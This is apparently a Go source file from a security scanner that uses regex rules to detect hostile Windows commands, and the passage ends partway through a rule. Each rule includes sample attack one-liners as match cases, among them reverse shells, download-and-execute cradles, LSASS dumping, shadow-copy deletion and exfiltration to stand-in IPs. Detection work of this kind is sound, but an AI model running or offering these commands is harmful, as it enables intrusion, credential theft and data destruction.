package commands

import (
	"regexp"
	"strings"

	"github.com/picketsec/picket/sdk"
)

// textRule judges the normalized text of a Windows command (PowerShell or
// cmd.exe): lower case, backticks, carets and string concatenation removed.
// It runs only when one of its keywords occurs (a cheap prefilter).
type textRule struct {
	rule
	keywords []string
	re       *litRe
	also     *litRe // must match too, when set
	anyOS    bool   // also read in texts that are not Windows
}

// anyOSRules are the text rules read in every text, Windows or not: the
// effect is in the words whatever program writes them.
var anyOSRules = map[string]bool{"ransom-note": true}

// anyTextKeywords prefilter the texts that are not Windows for anyOSRules.
var anyTextKeywords = func() *needles {
	var kw []string
	for _, r := range textRules {
		if anyOSRules[r.ID] {
			r.anyOS = true
			kw = append(kw, r.keywords...)
		}
	}
	return newNeedles(kw...)
}()

func tr(id, class string, sev sdk.Severity, msg string, kw []string, re, also string, must, mustNot []string) *textRule {
	t := &textRule{rule: rule{ID: id, Class: class, Sev: sev, Msg: msg, Must: must, MustNot: mustNot}, keywords: kw, re: mustLitRe(re)}
	if also != "" {
		t.also = mustLitRe(also)
	}
	return t
}

// match returns the span of the match in s, or nil.
func (t *textRule) match(s string) []int {
	if !containsAny(s, t.keywords...) {
		return nil
	}
	return t.matchKW(s)
}

// matchKW is match for a text known to hold one of the rule's keywords.
func (t *textRule) matchKW(s string) []int {
	var loc []int
	if len(s) > 1024 && strings.Count(s, "\n") > 4 {
		// A long script: the pattern is looked for on the lines that hold
		// a keyword (the patterns describe one command).
		best := -1
		for _, kw := range t.keywords {
			for off := 0; off < len(s); {
				k := strings.Index(s[off:], kw)
				if k < 0 {
					break
				}
				k += off
				ls := strings.LastIndexByte(s[:k], '\n') + 1
				le := strings.IndexByte(s[k:], '\n')
				if le < 0 {
					le = len(s)
				} else {
					le += k
				}
				if l := t.re.FindStringIndex(s[ls:le]); l != nil && (best < 0 || ls+l[0] < best) {
					loc, best = []int{ls + l[0], ls + l[1]}, ls+l[0]
					break
				}
				off = le + 1
			}
		}
	} else {
		loc = t.re.FindStringIndex(s)
	}
	if loc == nil {
		return nil
	}
	if t.also != nil && !t.also.MatchString(s) {
		return nil
	}
	return loc
}

var textRules = []*textRule{
	tr("ps-kill-security", "defense evasion", high, "stops a security or logging process or service found by name (ATT&CK T1562.001)",
		[]string{"stop-process", "spps", "kill", "stop-service", "taskkill"},
		`(stop-process|\bspps\b|\bkill\b|stop-service|taskkill)\b`,
		`(-like|-match|-eq|-name|-processname|/im|(get-service|get-process|gsv|gps)(\s+-(name|displayname))?)\s+['"]?\*?(defend\w*|windows event log|msmpeng|mssense|sense|sysmon\d*|csfalcon\w*|cb|carbonblack|sentinel\w*|cylance\w*|sophos\w*|mcafee\w*|symantec\w*|elastic-agent|winlogbeat|splunkd|osqueryd|windefend|wdnissvc|eventlog|mpssvc|defender|windows defender)(\*|['"]|\b)`,
		[]string{"Get-Process | Where-Object {$_.Name -like '*sysmon*'} | Stop-Process -Force", "Stop-Service -Name WinDefend -Force", "Get-Service *sense* | Stop-Service -Force"},
		[]string{"Get-Process | Where-Object {$_.Name -like '*node*'} | Stop-Process", "Stop-Service -Name Spooler", "Stop-Service -Name sysmonlog"}),
	tr("ps-etw-patch", "defense evasion", high, "switches off PowerShell's event tracing from inside the session (ATT&CK T1562.006)",
		[]string{"psetwlogprovider", "etwprovider", "etweventwrite", "m_enabled"},
		`psetwlogprovider|\betwprovider\b|etweventwrite|['"]m_enabled['"]`,
		`getfield|setvalue|virtualprotect|patch`,
		[]string{"[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0)"},
		[]string{"Get-WinEvent -ListProvider Microsoft-Windows-PowerShell"}),
	tr("ps-reflective-load", "defense evasion", high, "loads a .NET assembly from downloaded or decoded bytes into memory (ATT&CK T1620)",
		[]string{"assembly]::load", "assembly]::loadfile", ".load("},
		`\[(system\.)?reflection\.assembly\]::load(file|from)?\s*\(`,
		`downloaddata|frombase64string|invoke-webrequest|\biwr\b|net\.webclient|\.content\b|httpclient|getbytes\(|decompress|gzipstream|deflatestream|readallbytes|\.entrypoint\.invoke\(`,
		[]string{"[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://192.0.2.69/x.dll'))", "[Reflection.Assembly]::Load([Convert]::FromBase64String($b))", "[System.Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\\Users\\Public\\x.dll'))"},
		[]string{"[System.Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')", "[Reflection.Assembly]::LoadFile('C:\\build\\App.dll')"}),
	// A shellcode runner: memory made executable, or code written into
	// another process, from PowerShell or .NET interop.
	tr("ps-shellcode-runner", "library injection", high, "allocates executable memory or writes code into another process through Win32 calls (a shellcode runner, ATT&CK T1055)",
		[]string{"virtualalloc", "createremotethread", "writeprocessmemory", "ntallocatevirtualmemory", "queueuserapc"},
		`virtualalloc(ex)?\b|ntallocatevirtualmemory|createremotethread|writeprocessmemory|queueuserapc`,
		`0x40\b|0x20\b|0x3000\b|0x1000\b|createthread|createremotethread|writeprocessmemory|getdelegateforfunctionpointer|marshal\]::copy|queueuserapc`,
		[]string{"[Win32]::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)", "$h = [Kernel32]::CreateRemoteThread($p, 0, 0, $addr, 0, 0, 0); [Kernel32]::WriteProcessMemory($p, $addr, $buf, $buf.Length, [ref]0)"},
		[]string{"Get-Help about_Memory", "Get-Process | Sort-Object WorkingSet -Descending"}),
	// Code decoded or inflated in memory and run at once: obfuscated
	// execution whatever it holds.
	tr("ps-iex-decoded", "obfuscated execution", high, "decodes or decompresses a payload in memory and runs it with Invoke-Expression (ATT&CK T1027)",
		[]string{"frombase64string", "gzipstream", "deflatestream", "-bxor", "[char[]]", "securestringtoglobalallocunicode", "convertto-securestring"},
		`frombase64string|gzipstream|deflatestream|-bxor\b|\[char\[\]\]|securestringtoglobalallocunicode|convertto-securestring\s+-key`,
		`(\biex\b|invoke-expression|scriptblock\]::create\s*\(|invokecommand\.(invokescript|newscriptblock)\s*\()`,
		[]string{"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String($b)); IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"},
		[]string{"Invoke-Expression 'Get-Date'", "[Convert]::FromBase64String($b) | Set-Content -AsByteStream out.bin"}),
	tr("ps-eventlog-clear-api", "defense evasion", high, "clears event logs through the .NET event-log API (ATT&CK T1070.001)",
		[]string{"clearlog", ".clear()", "diagnostics.eventlog]::"},
		`eventlogsession\]?::globalsession\.clearlog|\.clearlog\(|get-eventlog\b[^|]*\|\s*%?\s*\{?\s*\$_\.clear\(\)|\[system\.diagnostics\.eventlog\]::`,
		``,
		[]string{"Get-WinEvent -ListLog * | ForEach-Object { [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }"},
		[]string{"Get-WinEvent -ListLog * | Select-Object LogName, RecordCount"}),
	// Files found recursively under the profiles or a drive root, then
	// deleted or renamed one by one: wiping or a ransom rename.
	tr("ps-mass-file-impact", "destructive filesystem", high, "deletes or renames every file found recursively under the user profiles or a drive (ATT&CK T1485, T1486)",
		[]string{"remove-item", "rename-item", "| ri ", "|ri ", "| del ", "| ren ", "set-content", "encrypt("},
		`(get-childitem|\bgci\b|\bdir\b|\bls\b)\s[^|;]*(([a-z]:\\(users\b[^|;]*)?|\$env:userprofile|\$home|~|\$_\.root)(\\|\s|$))[^|;]*-r(ecurse)?\b[^|;]*\|[^|;]*(remove-item|\bri\b|\bdel\b|rename-item|\bren\b|encrypt\(|set-content)|(get-childitem|\bgci\b|\bdir\b|\bls\b)\s[^|;]*-r(ecurse)?\b[^|;]*(([a-z]:\\(users\b[^|;]*)?|\$env:userprofile|\$home|~|\$_\.root)(\\|\s|$))[^|;]*\|[^|;]*(remove-item|\bri\b|\bdel\b|rename-item|\bren\b|encrypt\(|set-content)|(get-childitem|\bgci\b|\bdir\b|\bls\b)\s[^|;]*(([a-z]:\\users\b|\$env:userprofile|\$home)[^|;]*-r(ecurse)?\b|-r(ecurse)?\b[^|;]*([a-z]:\\users\b|\$env:userprofile|\$home))[^|;]*\|\s*(foreach-object|%)\s*\{[^}]*(writeallbytes\(|encrypt\(|transformfinalblock\()[^}]*(remove-item|\bri\b|\bdel\b|\.delete\(\))`,
		``,
		[]string{"Get-ChildItem -Path C:\\Users -Include *.docx,*.pdf -Recurse | Remove-Item -Force", "Get-PSDrive -PSProvider FileSystem | ForEach-Object { Get-ChildItem $_.Root -Recurse -Include *.docx | Rename-Item -NewName { $_.Name + '.enc' } }", "Get-ChildItem C:\\Users\\*\\Documents -Recurse | ForEach-Object { Rename-Item $_.FullName ($_.FullName + '.locked') }"},
		[]string{"Get-ChildItem -Path .\\bin -Recurse | Remove-Item -Force", "Get-ChildItem -Path $env:TEMP -Filter *.log | Remove-Item"}),
	tr("ps-config-password-search", "credential access", high, "searches configuration files across a drive or the profiles for passwords (ATT&CK T1552.001)",
		[]string{"password", "passwd", "pwd", "connectionstring", "credential"},
		`(get-childitem|\bgci\b|\bdir\b|\bls\b)\s[^|;]*-r(ecurse)?\b[^|;]*\|\s*(select-string|sls)\s[^|;]*(password|passwd|pwd|cpassword|connectionstring|credential)`,
		``,
		[]string{"Get-ChildItem -Path C:\\ -Include *.config,*.xml -Recurse -ErrorAction SilentlyContinue | Select-String -Pattern 'password'"},
		[]string{"Get-ChildItem -Recurse *.cs | Select-String -Pattern 'TODO'"}),
	tr("ps-security-service-pipe", "defense evasion", high, "stops or disables a security or logging service handed down a pipeline (ATT&CK T1562.001)",
		[]string{"stop-service", "set-service", "spsv"},
		`get-service\b[^|;\n]*\b(windefend|sense|wdnissvc|mpssvc|eventlog|sysmon64|sysmon|securityhealthservice|wscsvc|wdboot|wdfilter)\b[^|;\n]*\|\s*(stop-service|spsv|set-service\b[^|;\n]*-startuptype\s+disabled)`,
		``,
		[]string{"Get-Service WinDefend | Stop-Service -Force", "Get-Service -Name EventLog | Set-Service -StartupType Disabled"},
		[]string{"Get-Service Spooler | Stop-Service", "Get-Service WinDefend | Select-Object Status"}),
	// cmd.exe echoing a word into a named pipe: the client half of named
	// pipe impersonation (a service started only to connect to the pipe a
	// process is listening on, whose token that process then takes; the
	// getsystem technique of attack frameworks, ATT&CK T1134.001).
	tr("named-pipe-impersonation", "privilege escalation", high, "writes into a named pipe with cmd.exe's echo, the step a service runs so that the pipe's owner can take its token (named pipe impersonation, ATT&CK T1134.001)",
		[]string{"\\pipe\\"},
		`\becho\b[^\n&|]*>\s*"?\\\\\.\\pipe\\[\w.-]+`,
		``,
		[]string{"sc create upd binPath= \"cmd.exe /c echo a1b2c3 > \\\\.\\pipe\\a1b2c3\"", "cmd /c echo x7 > \\\\.\\pipe\\x7"},
		[]string{"type \\\\.\\pipe\\docker_engine", "echo hello > out.txt"}),
	// The same with the date held in a variable first ($d='01/03/2006';
	// $f.LastWriteTime=$d): the date is a literal all the same.
	tr("ps-timestomp-variable", "defense evasion", high, "sets a file's timestamps to a fixed past date held in a variable (timestomping, ATT&CK T1070.006)",
		[]string{"creationtime", "lastwritetime", "lastaccesstime"},
		`\.(creationtime|lastwritetime|lastaccesstime)(utc)?\s*=\s*\$\w+\s*(;|\n|\}|$)`,
		`\$\w+\s*=\s*(\[datetime\]\s*)?["']\d{1,4}[/.-]\d{1,2}[/.-]\d{2,4}`,
		[]string{"$t = '11/20/2012 07:30 am'; $x = Get-Item .\\report.docx; $x.CreationTime = $t; $x.LastWriteTime = $t"},
		[]string{"$t = Get-Date; (Get-Item out.txt).LastWriteTime = $t", "$v = '1.2.3'; $x = Get-Item a.txt; $x.LastWriteTime = $y"}),
	tr("ps-timestomp-literal", "defense evasion", high, "sets a file's timestamps to a fixed past date (timestomping, ATT&CK T1070.006)",
		[]string{"creationtime", "lastwritetime", "lastaccesstime"},
		`\.(creationtime|lastwritetime|lastaccesstime)(utc)?\s*=\s*(\$\w+\.(creationtime|lastwritetime|lastaccesstime)(utc)?\s*=\s*)*(["']\d|\[datetime\]\s*["']\d|\(get-item\s|\$?\(\s*get-date\s+(-date\s+)?["']?\d)|\.(creationtime|lastwritetime)\s*=\s*\(get-item\b[^)]*\)\.(creationtime|lastwritetime)`,
		``,
		[]string{"$f=Get-Item C:\\Users\\Public\\x.exe; $f.CreationTime=$f.LastWriteTime='01/01/2009 00:00:00'", "$(Get-Item .\\svc.dll).LastWriteTime=$(Get-Date \"03/04/2017 09:15\")", "(Get-Item .\\x.dll).LastWriteTime = (Get-Item C:\\Windows\\notepad.exe).LastWriteTime"},
		[]string{"(Get-Item .\\file.txt).LastWriteTime = Get-Date", "Get-Item .\\file.txt | Select-Object CreationTime"}),
	tr("ps-post-file-content", "exfiltration", high, "posts the contents of a local file to a bare IP address (ATT&CK T1048)",
		[]string{"-body", "-infile"},
		`(invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b)\b[^\n;|]*https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[^\n;|]*-body\s+\(?\s*(get-content|\bgc\b|\bcat\b|\$\w+|\[(system\.)?io\.file\]::readall)|(invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b)\b[^\n;|]*-body\s+\(?\s*(get-content|\bgc\b|\bcat\b|\[(system\.)?io\.file\]::readall)[^\n;|]*https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}`,
		`get-content|\bgc\b|\bcat\b|readall`,
		[]string{"Invoke-WebRequest -Uri http://198.51.100.42/u -Method Post -Body (Get-Content C:\\Users\\bob\\Documents\\notes.txt)", "$b=[IO.File]::ReadAllBytes('C:\\Users\\Public\\d.zip'); Invoke-RestMethod -Uri http://198.51.100.42/u -Method Post -Body $b"},
		[]string{"Invoke-RestMethod -Uri https://api.example.org/items -Method Post -Body (Get-Content .\\item.json -Raw) -ContentType application/json"}),
	// An alternate data stream named with a program or script extension,
	// written or run (file.txt:payload.exe): where payloads hide. The
	// Zone.Identifier stream a download carries has no such extension.
	tr("win-ads-payload", "defense evasion", high, "writes or runs a program or script hidden in an alternate data stream (ATT&CK T1564.004)",
		[]string{".exe", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".hta", ".sct", ".cab", ".reg", ".ini", ".scr", ".msi", ".tgz", ".zip", ".bin"},
		`[a-z0-9_)\]-]\.[a-z0-9]{1,5}:[a-z0-9_$-][a-z0-9_.$-]*\.(exe|dll|bat|cmd|ps1|vbs|vbe|js|jse|hta|sct|cab|reg|ini|scr|msi|tgz|zip|bin)\b`,
		``,
		[]string{"print /D:C:\\Users\\Public\\notes.txt:x.exe C:\\Users\\Public\\x.exe", "makecab C:\\Users\\Public\\a.exe C:\\Users\\Public\\n.txt:a.cab", "cmd.exe - < report.doc:run.bat"},
		[]string{"Get-Content C:\\Test\\a.ps1 -Stream Zone.Identifier", "curl https://example.org:8443/file.zip -o file.zip"}),
	tr("com-shell-exec", "indirect execution", high, "runs a program from a staging folder, or a shell, through a COM shell object (Shell.Application, WScript.Shell) (ATT&CK T1559.001)",
		[]string{"shellexecute", ".run(", ".exec("},
		`(shellexecute|\.run|\.exec)\(\s*["'][^"']*(\\programdata\\|\\users\\public\\|\\appdata\\|\\temp\\|%temp%|%appdata%|\$env:|powershell|\bcmd(\.exe)?\s+/c|mshta|rundll32|regsvr32)`,
		`shell\.application|wscript\.shell|shellbrowserwindow|shellwindows`,
		[]string{"$s = New-Object -ComObject Shell.Application; $s.ShellExecute('C:\\ProgramData\\u.exe')", "$w = New-Object -ComObject WScript.Shell; $w.Run('powershell -nop -c Get-Date', 0)"},
		[]string{"$w = New-Object -ComObject WScript.Shell; $w.Run('notepad.exe')", "$s = New-Object -ComObject Shell.Application; $s.Open('C:\\Projects')"}),
	tr("collection-to-ip-share", "exfiltration", high, "copies user documents to a share at a bare IP address (ATT&CK T1039, T1048)",
		[]string{"\\\\"},
		`(documents|desktop|\\users\\\*|\$env:userprofile|\\shares?\\)[^\n;]*(copy-item|\bcopy\b|xcopy|robocopy|move-item)[^\n;]*\\\\\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\\|(copy-item|\bcopy\b|xcopy|robocopy|move-item)[^\n;]*(documents|desktop|\\users\\\*|\$env:userprofile|[a-z]:\\shares?\\)[^\n;]*\\\\\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\\`,
		``,
		[]string{"Get-ChildItem -Path C:\\Users\\*\\Documents -Include *.docx -Recurse | Copy-Item -Destination \\\\192.0.2.52\\drop", "robocopy C:\\Users\\bob\\Documents \\\\192.0.2.52\\drop /E", "robocopy C:\\Shares\\Finance \\\\192.0.2.53\\drop /E /Z"},
		[]string{"Copy-Item .\\app.zip \\\\build01\\drop\\", "robocopy C:\\src \\\\192.0.2.52\\builds /E"}),
	tr("stop-data-services", "impact", high, "kills or stops database, mail or backup services one after another (what ransomware does before it encrypts, ATT&CK T1489)",
		[]string{"sqlservr", "sqlwriter", "oracle", "outlook", "msexchange", "veeam", "backupexec", "mysqld", "sqlbrowser", "ocssd", "mssqlserver", "sqlserveragent", "sqlagent"},
		`(taskkill|net1?\s+stop|stop-service|stop-process|sc(\.exe)?\s+stop)[^\n]*(sqlservr|sqlwriter|oracle|outlook|msexchange|veeam|backupexec|mysqld|sqlbrowser|ocssd|mssqlserver|sqlserveragent|sqlagent)[^\n]*(taskkill|net1?\s+stop|stop-service|stop-process|sc(\.exe)?\s+stop)[^\n]*(sqlservr|sqlwriter|oracle|outlook|msexchange|veeam|backupexec|mysqld|sqlbrowser|ocssd|mssqlserver|sqlserveragent|sqlagent|winword|excel)`,
		``,
		[]string{"taskkill /IM sqlservr.exe /F & taskkill /IM oracle.exe /F & taskkill /IM outlook.exe /F", "net stop SQLWriter /y & net stop \"Veeam Backup Catalog Data Service\" /y"},
		[]string{"net stop MSSQLSERVER", "taskkill /IM outlook.exe /F"}),
	tr("ps-download-exec", "download and execute", critical, "downloads a PowerShell script and runs it with Invoke-Expression",
		[]string{"iex", "invoke-expression", "scriptblock]::create", "gcm", "get-command", "gal", "get-alias", "gv", "get-variable", "invokecommand"},
		// Invoke-Expression by name, a script block made from the text, or
		// a command found by a wildcard (&(gcm *ke-e*)) and called.
		`(\biex\b|invoke-expression|scriptblock\]::create\s*\(|invokecommand\.(invokescript|newscriptblock)\s*\(|&\s*\(\s*(gcm|get-command|gal|get-alias)\s+['"]?[\w?-]*[*?]|&\s*\(\s*\(\s*(gv|get-variable)\b[^)]*\)\.name\[)`,
		`downloadstring|downloaddata|\biwr\b|invoke-webrequest|\birm\b|invoke-restmethod|net\.webclient|start-bitstransfer|\bcurl\b|\bwget\b|httpclient|\.content|xmlhttp|winhttprequest|\.responsetext|internetexplorer\.application|getresponsestream|net\.webrequest|resolve-dnsname\b[^|\n]*-type\s+txt|nslookup\b[^|\n]*(-q(uerytype)?|-type)=txt`,
		[]string{
			"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.90/a.ps1')\"",
			"iex (iwr -UseBasicParsing https://example.org/setup.ps1)",
			"irm https://example.org/i.ps1 | iex",
			"powershell -c \"I`E`X ((new-object net.webclient).('Down'+'loadString')('http://192.0.2.91/x'))\"",
			"& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://192.0.2.92/m')))",
			"powershell -c \"&(gcm *ke-e*) ((New-Object Net.WebClient).DownloadString('http://192.0.2.93/x'))\"",
			".($PSHOME[4]+$PSHOME[30]+'x') ((New-Object Net.WebClient).DownloadString('http://192.0.2.94/y'))",
			"$n='x+e+i'.Split('+'); [Array]::Reverse($n); &($n -join '') (iwr http://192.0.2.95/z).Content",
			"c^m^d /c \"p^o^w^e^r^s^h^e^l^l -c i^e^x(n^e^w-object net.webclient).downloadstring('http://192.0.2.96/a')\"",
			"$ExecutionContext.InvokeCommand.InvokeScript((New-Object Net.WebClient).DownloadString('http://192.0.2.97/c'))",
			"&(gal i*x) (irm http://192.0.2.98/g)",
			"&((gv '*mdr*').Name[3,11,2]-join'') (irm http://192.0.2.99/i)",
		},
		[]string{"Invoke-WebRequest -Uri https://example.org/file.zip -OutFile file.zip", "Get-ChildItem | Select-Object Name"}),
	tr("ps-download-run", "download and execute", high, "downloads a program and starts it",
		[]string{"downloadfile", "outfile", "start-bitstransfer", "set-content", "out-file"},
		`downloadfile\(|-outfile\s|start-bitstransfer|(set-content|out-file)\b[^\n;]*\((iwr|invoke-webrequest|irm|invoke-restmethod)\b`,
		`start-process|\bsaps\b|invoke-item|\bii\b|&\s*["'(]*\$|\.exe['"]?\s*\)?\s*;?\s*(&|start)|cmd\s*/c|powershell(\.exe)?\s[^\n;|]*-(f|fi|fil|file)\s|;\s*\.\\[\w\\.-]+\.(exe|ps1|bat|cmd|vbs)\b|;\s*&?\s*["']?([a-z]:|\$env:\w+|%\w+%)\\[\w\\.-]+\.(exe|bat|cmd|vbs)\b|rundll32|regsvr32|msiexec(\.exe)?\s[^\n]*/(y|z)\b|wscript|cscript|mshta`,
		[]string{"(New-Object Net.WebClient).DownloadFile('http://192.0.2.92/a.exe','C:\\Users\\Public\\a.exe'); Start-Process C:\\Users\\Public\\a.exe", "Set-Content -Path $env:TEMP\\u.ps1 -Value (iwr http://192.0.2.93/u.ps1).Content; & $env:TEMP\\u.ps1"},
		[]string{"Invoke-WebRequest https://example.org/data.csv -OutFile data.csv; Import-Csv data.csv", "Invoke-WebRequest -Uri https://downloads.example.org/cli/v1.2.0/cli.msi -OutFile cli.msi; msiexec /i cli.msi /qn"}),
	tr("lolbin-download", "download and execute", high, "uses a built-in Windows program to fetch or run remote code",
		[]string{"certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "msiexec", "wmic", "cmstp", "odbcconf", "hh.exe", "installutil", "forfiles", "msxsl", "pcalua"},
		`certutil(\.exe)?\s+[^\n]*-(urlcache|verifyctl)[^\n]*(https?:|ftp:|\\\\|\s-f\s)|certutil(\.exe)?\s+.*-decode|bitsadmin(\.exe)?\s+.*/(transfer|addfile|setnotifycmdline)|mshta(\.exe)?\s+["']?(https?:|javascript:|vbscript:|\\\\)|regsvr32(\.exe)?\s+.*/i:\s*["']?(https?:|\\\\)|regsvr32.*scrobj\.dll|rundll32(\.exe)?\s+.*(javascript:|vbscript:|mshtml\s*,\s*runhtmlapplication|url\.dll\s*,\s*(openurl|fileprotocolhandler)|advpack\.dll\s*,\s*launchinfsection|shell32\.dll\s*,\s*shellexec_rundll)|msiexec(\.exe)?\s+.*/(i|package)\s*["']?https?:|wmic(\.exe)?\s+.*(/format:\s*["']?(https?:|\\\\)|process\s+call\s+create)|cmstp(\.exe)?\s+.*/s|odbcconf(\.exe)?\s+.*regsvr|hh\.exe\s+https?:|installutil(\.exe)?\s+.*/u|pcalua(\.exe)?\s+-a`,
		"",
		[]string{
			"certutil.exe -urlcache -split -f http://192.0.2.93/p.exe p.exe",
			"bitsadmin /transfer job /download /priority high http://192.0.2.94/a.exe C:\\Temp\\a.exe",
			"mshta http://192.0.2.95/run.hta",
			"regsvr32 /s /n /u /i:http://192.0.2.96/file.sct scrobj.dll",
			"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
			"wmic process call create \"calc.exe\"",
		},
		[]string{"certutil -hashfile setup.exe SHA256", "msiexec /i C:\\installers\\app.msi /qn", "rundll32 printui.dll,PrintUIEntry /?"}),
	tr("ps-reverse-shell", "reverse shell", critical, "connects a PowerShell session to a remote host",
		[]string{"tcpclient", "tcplistener", "powercat", "invoke-powershelltcp", "nishang", "conptyshell"},
		`net\.sockets\.tcpclient|net\.sockets\.tcplistener|\bpowercat\b|invoke-powershelltcp|invoke-conptyshell|nishang`,
		`getstream|iex|invoke-expression|-e\s+cmd|-ep\b|\bpowercat\b|invoke-powershelltcp|invoke-conptyshell|start-process|-c\s|-l\s`,
		[]string{
			"powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.97',443);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String);$s.Write($o)}\"",
			"powercat -c 192.0.2.98 -p 443 -e cmd",
		},
		[]string{"Test-NetConnection -ComputerName example.com -Port 443"}),
	tr("defender-off", "defense evasion", high, "turns Microsoft Defender protection off",
		[]string{"mppreference", "windefend", "windows defender", "windows-defender", "mpcmdrun"},
		`set-mppreference\s+.*-(disable\w*\s+(\$true|1)|exclusion\w*|submitsamplesconsent\s+2|mapsreporting\s+0|puaprotection\s+0|enablecontrolledfolderaccess\s+0|enablenetworkprotection\s+0)|add-mppreference\s+.*-exclusion|sc(\.exe)?\s+(stop|delete|config)\s+windefend|windows defender.*disable|disableantispyware|mpcmdrun(\.exe)?\s+.*-removedefinitions|uninstall-windowsfeature\s+.*windows-defender`,
		"",
		[]string{
			"Set-MpPreference -DisableRealtimeMonitoring $true",
			"Add-MpPreference -ExclusionPath C:\\Users\\Public",
			"reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
			"sc stop WinDefend",
		},
		[]string{"Get-MpComputerStatus", "Get-MpPreference | Select-Object ExclusionPath"}),
	tr("firewall-off", "defense evasion", high, "turns the Windows firewall off",
		[]string{"netsh", "netfirewallprofile"},
		`netsh(\.exe)?\s+(advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+(mode=)?disable)|set-netfirewallprofile\s+.*-enabled\s+(\$?false|0)`,
		"",
		[]string{"netsh advfirewall set allprofiles state off", "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False"},
		[]string{"netsh advfirewall show allprofiles", "netsh interface ip show config"}),
	tr("inhibit-recovery", "destructive filesystem", critical, "deletes backups and shadow copies so files cannot be recovered",
		[]string{"vssadmin", "shadowcopy", "win32_shadowcopy", "bcdedit", "wbadmin"},
		`vssadmin(\.exe)?\s+(delete\s+shadows|resize\s+shadowstorage)|wmic(\.exe)?\s+shadowcopy\s+delete|win32_shadowcopy.*(delete|remove-\w+)|bcdedit(\.exe)?\s+.*(recoveryenabled\s+no|bootstatuspolicy\s+ignoreallfailures)|wbadmin(\.exe)?\s+delete\s+(catalog|systemstatebackup|backup)`,
		"",
		[]string{"vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "bcdedit /set {default} recoveryenabled No", "Get-WmiObject Win32_Shadowcopy | Remove-WmiObject"},
		[]string{"vssadmin list shadows", "bcdedit /enum"}),
	tr("eventlog-clear", "defense evasion", high, "clears Windows event logs",
		[]string{"wevtutil", "clear-eventlog", "remove-eventlog", "fsutil", "limit-eventlog"},
		`wevtutil(\.exe)?\s+(cl|clear-log)\s|clear-eventlog|remove-eventlog|fsutil(\.exe)?\s+usn\s+deletejournal`,
		"",
		[]string{"wevtutil cl Security", "Clear-EventLog -LogName System"},
		[]string{"wevtutil qe System /c:5 /f:text", "Get-EventLog -LogName System -Newest 10"}),
	tr("credential-dump", "credential access", critical, "dumps Windows credentials",
		[]string{"mimikatz", "sekurlsa", "lsadump", "lsass", "reg save", "reg.exe save", "ntdsutil", "vaultcmd", "lazagne", "comsvcs", "ntds.dit", "hklm\\sam", "invoke-mimikatz"},
		`mimikatz|sekurlsa::|lsadump::|invoke-mimikatz|procdump(64)?(\.exe)?\s+.*lsass|lsass[\s\S]*procdump(64)?(\.exe)?\s[^\n]*-m[amp]\s+\d+|comsvcs(\.dll)?\s*,?\s*#?(minidump|24)|reg(\.exe)?\s+save\s+hklm\\(sam|system|security)|ntdsutil.*\bifm\b|vaultcmd(\.exe)?\s+/listcreds|lazagne|esentutl.*ntds\.dit|copy\s+.*\\ntds\.dit`,
		"",
		[]string{
			"procdump.exe -accepteula -ma lsass.exe lsass.dmp",
			"reg save HKLM\\SAM C:\\Temp\\sam.save",
			"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
			"vaultcmd /listcreds:\"Windows Credentials\" /all",
			"tasklist | findstr lsass & procdump -accepteula -mm 652 C:\\Users\\Public\\m.dmp",
		},
		[]string{"reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion", "Get-Process lsass"}),
	tr("windows-persistence", "persistence", high, "installs a program that starts automatically on Windows",
		[]string{"schtasks", "currentversion\\run", "start menu\\programs\\startup", "commandlineeventconsumer", "userinit", "image file execution options"},
		`schtasks(\.exe)?\s+/create\s[^\n';|&]*/(ru\s+"?(system|nt authority)|sc\s+"?(onlogon|onstart))\b|(reg(\.exe)?\s+add|new-itemproperty|set-itemproperty)\s.*currentversion\\runs?(once)?\b|start menu\\programs\\startup|commandlineeventconsumer|winlogon.*userinit|image file execution options.*debugger`,
		"",
		[]string{
			"CreateProcessWithToken -CommandLine 'cmd.exe /c schtasks /create /tn upd /tr C:\\u.exe /sc onlogon /ru system'",
			"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe",
			"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value 'C:\\u.exe'",
		},
		[]string{"schtasks /query /fo LIST", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "schtasks /create /tn \"Nightly Build\" /tr \"C:\\build\\nightly.cmd\" /sc daily /st 02:00"}),
	tr("windows-account", "privilege escalation", high, "creates a Windows account or makes it an administrator",
		[]string{"net user", "net1 user", "localgroup", "add-localgroupmember", "new-localuser"},
